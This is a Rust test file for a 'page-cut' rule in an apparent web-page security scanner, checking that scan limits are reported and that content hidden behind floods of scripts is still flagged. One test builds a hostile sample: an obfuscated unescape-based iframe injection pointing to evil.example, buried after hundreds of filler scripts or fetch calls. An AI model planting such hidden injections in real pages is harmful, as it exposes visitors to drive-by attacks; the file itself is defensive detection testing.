//! Rule `page-cut`: limits are told, never kept quiet.

use crate::harness::{check, compared, inserted, scan_alone, worst};
use hinomi::model::{Confidence::*, Severity::*};
use hinomi::monitor::Form;

const RULE: &str = "page-cut";

fn told(name: &str) -> Option<(hinomi::model::Severity, hinomi::model::Confidence)> {
    worst(&compared(RULE, name), RULE)
}

#[test]
fn fixtures() {
    check(RULE);
}

#[test]
fn a_limit_asks_for_a_person() {
    assert_eq!(told("review-deep"), Some((Medium, Certain)));
    assert_eq!(told("harmless-nested"), None);
}

#[test]
fn disagreeing_charsets_are_information() {
    assert_eq!(told("harmless-charset"), Some((Info, Certain)));
}

#[test]
fn what_hides_behind_a_flood_is_never_quiet() {
    let hidden = "document.write(unescape('%3Ciframe src=//evil.example/%3E%3C/iframe%3E'))";
    let scripts: String = (0..600).map(|n| format!("<script>var a{n}=document.createElement('b')</script>")).collect();
    let actions: String = (0..200).map(|n| format!("fetch('/a/{n}');")).collect();
    for markup in [format!("{scripts}<script>{hidden}</script>"), format!("<script>{actions}{hidden}</script>")] {
        let found = inserted("hidden-frame", "</main>", &markup);
        assert_eq!(worst(&found, RULE), Some((Medium, Certain)), "{}: {found:#?}", markup.len());
        let page = format!("<!doctype html><title>x</title><body>{markup}");
        assert_eq!(worst(&scan_alone(&page, Form::Page).0, RULE), Some((Medium, Certain)));
    }
}
